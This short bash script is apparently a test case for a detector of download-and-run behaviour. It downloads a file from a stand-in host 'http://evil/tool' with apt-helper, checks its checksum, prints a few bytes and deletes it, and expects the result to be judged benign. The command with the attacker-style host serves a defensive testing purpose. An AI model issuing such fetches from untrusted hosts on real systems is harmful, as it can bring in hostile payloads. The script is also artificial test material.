#!/usr/bin/env bash
# Downloads a file with apt's own downloader, checks its sum, and reads it. Looks like download-run.
. "$(dirname "$0")/lib.sh"

start_task 'set -e; cd /var/cache; /usr/lib/apt/apt-helper download-file http://evil/tool catalogue.bin; sha256sum catalogue.bin >catalogue.sum
sha256sum --check --quiet catalogue.sum; head -c 16 catalogue.bin | od -An -tx1; rm catalogue.bin catalogue.sum'
ended
worked "downloaded a file, checked it, and did not run it"
